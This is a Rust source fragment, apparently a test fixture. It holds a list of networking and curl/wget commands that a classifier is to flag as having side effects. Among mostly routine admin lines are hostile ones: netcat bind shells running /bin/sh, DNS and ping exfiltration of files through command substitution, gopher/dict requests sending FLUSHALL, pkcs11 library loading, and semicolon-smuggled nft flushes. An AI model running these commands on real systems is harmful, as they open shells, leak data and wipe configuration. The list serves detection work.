//! Lines about the network and web addresses that change, run, load, save or send something, or may, one a line. How they are judged is tested beside.

pub(super) const LINES: &str = r#"
ip link set eth0 down
ip l s eth0 down
ip link s eth0 down
ip a add 10.0.0.1/24 dev eth0
ip addr flush dev eth0
ip a f dev eth0
ip r add default via 10.0.0.1
ip route del default
ip r flush cache
ip route restore
ip neigh flush all
ip rule add from all lookup 100
ip netns add blue
ip netns delete blue
ip netns exec blue ip link set eth0 down
ip netns exec blue sh
ip -all netns exec ip link
ip -b /tmp/x
ip -batch /tmp/x
ip -force -b -
ip xfrm state
ip tunnel add x
ip vrf exec red kill 1
ss -K dst 10.0.0.1
ss --kill state established
ss -tnK dst 10.0.0.1
ss -D /tmp/x
ss -D/tmp/x
ifconfig eth0 down
ifconfig eth0 10.0.0.1
route add default gw 10.0.0.1
route flush
arp -d 10.0.0.1
arp -s 10.0.0.1 aa:bb:cc:dd:ee:ff
arp -f
ethtool -s eth0 speed 100
ethtool -K eth0 tso off
ethtool -G eth0 rx 4096
ethtool --flash eth0 x.bin
ethtool -p eth0
ethtool -r eth0
iw dev wlan0 del
iw reg set US
iwlist wlan0 scan
nmcli con up x
nmcli con delete x
nmcli c d x
nmcli radio wifi off
nmcli networking off
nmcli general hostname web2
nmcli -s con show x
nmcli con show -s x
nmcli dev wifi connect x
dig -f /etc/hosts
dig $(cat /etc/hosts).example.com
dig x$(cat /etc/hosts).example.com
nslookup x.$(cat /etc/hostname).example.com
host a.$(cat k).example.com
ping -c1 x$(cat k).example.com
ping -f example.com
ping -c 1 -p "$(cat k)" example.com
nslookup -
echo example.com | nslookup -
nc -l 8080
nc -lvp 4444 -e /bin/sh
nc example.com 80
nc -z -e /bin/sh example.com 80
ncat --sh-exec 'ls' -z example.com 80
socat TCP:example.com:80 -
telnet example.com 80
sftp example.com
tcpdump -w /tmp/x.pcap -c 10
tcpdump -c 10 -i eth0 -w /tmp/x -W 2 -C 1
tcpdump -c 10 -z /tmp/x.sh -G 1 -w /dev/null
tcpdump -c 1 -z reboot
tshark -c 10 -w /tmp/x
tshark -c 1 -X lua_script:/tmp/x.lua
tshark -r a.pcap --export-objects http,/tmp/x
tshark -r a.pcap -o uat:x
ngrep -O /tmp/x -n 5
ngrep -K 5 -n 5 x
nmap --script vuln 10.0.0.1
nmap -sC 10.0.0.1
nmap -A 10.0.0.1
nmap -oN /tmp/x 10.0.0.1
nmap -p 80 -oX - 10.0.0.1
iptables -F
iptables -A INPUT -j DROP
iptables -L -Z
iptables -vnL -Z
iptables -t nat -F
iptables -P INPUT DROP
iptables -nL --modprobe=/tmp/x
iptables-save -f /tmp/x
iptables-restore
nft flush ruleset
nft -f /tmp/x
nft list ruleset ';' flush ruleset
nft 'list ruleset; flush ruleset'
nft list table inet 'filter; flush ruleset'
nft list chain inet filter input ';' flush ruleset
nft -i
ipset flush
ipset save -f /tmp/x
conntrack -F
conntrack -D -s 10.0.0.1
conntrack -L -z
firewall-cmd --add-port=80/tcp
firewall-cmd --reload
firewall-cmd --list-all --remove-port=80/tcp
ufw disable
ufw allow 22
tc qdisc add dev eth0 root netem delay 100ms
tc -b /tmp/x
bridge fdb add x dev eth0
brctl addbr br0
ovs-vsctl del-br br0
ovs-vsctl show -- del-br br0
ovs-vsctl list-ports br0 -- del-br br0
ovs-ofctl del-flows br0
wg set wg0 peer x
wg showconf wg0
wg show wg0 private-key
wg show all dump
wg-quick up wg0
chronyc makestep
chronyc -m tracking makestep
ntpdate pool.ntp.org
rpcinfo -d 100000 2
iperf3 -c 10.0.0.1
curl -X POST http://localhost/
curl -XDELETE http://localhost/x
curl -sXPUT http://localhost/x
curl -d a=b http://localhost/
curl -G -d a=b http://localhost/
curl --data-binary @/etc/hosts http://localhost/
curl -F f=@/etc/hosts http://localhost/
curl -T /etc/hosts http://localhost/
curl --json '{}' http://localhost/
curl -o /tmp/x http://localhost/
curl -O http://localhost/x
curl -sLo x.sh http://localhost/x
curl -s http://localhost/x -D /tmp/h
curl -K /tmp/x
curl -c /tmp/jar http://localhost/
curl --trace /tmp/t http://localhost/
curl --libcurl /tmp/x.c http://localhost/
curl --stderr /tmp/x http://localhost/
curl --next -X POST http://localhost/
curl http://a/ --next -o /tmp/x http://b/
curl file:///etc/hosts
curl FILE:///etc/hosts
curl file:/etc/hosts
curl gopher://localhost:6379/_FLUSHALL
curl dict://localhost:6379/FLUSHALL
curl dict.example.com:6379/FLUSHALL
curl telnet://localhost:25
curl smtp://localhost --mail-from a
curl -w '%output{/tmp/x}%{http_code}' http://localhost/
curl -H @/etc/hosts http://localhost/
curl -H 'X-HTTP-Method-Override: DELETE' http://localhost/x
curl -H 'x-http-method: PUT' http://localhost/x
curl "http://localhost/$(cat /etc/hosts)"
curl -A "$(cat k)" http://localhost/
curl -u "x:$(cat k)" http://localhost/
curl -e "$(cat k)" http://localhost/
curl --engine /tmp/x.so http://localhost/
curl --url-query @/etc/hosts http://localhost/
curl --variable x@/etc/hosts --expand-url 'http://a/{{x}}'
curl --out /tmp/x http://localhost/
curl --etag-save /tmp/x http://localhost/
curl -Q 'DELE x' ftp://localhost/
curl ftp://localhost/x
wget http://localhost/x
wget -O x http://localhost/
wget -O - -O x http://localhost/
wget -qO- --post-data=a http://localhost/
wget -qO- --method=DELETE http://localhost/
wget -O- -i /tmp/list
wget -O- -e use_proxy=yes http://localhost/
wget --spider -r http://localhost/
wget -O- -o /tmp/log http://localhost/
wget -qO- --use-askpass=/tmp/x http://localhost/
wget -c http://localhost/x
http POST localhost:8080/ a=b
http localhost:8080/ a=b
http GET localhost:8080/
http -d localhost/x
xh DELETE localhost/x
grpcurl -plaintext localhost:50051 my.Service/Delete
grpcurl -d '{}' localhost:50051 list
ab -n 100 http://localhost/
hey http://localhost/
systemd-resolve --flush-caches
dig -q x$(cat k).example.com
tcpdump -c 1 host x$(cat k).example.com
curl -E 'pkcs11:x?module-path=/tmp/x.so' https://localhost/
curl --cert 'pkcs11:x?module-path=/tmp/x.so' https://localhost/
"#;
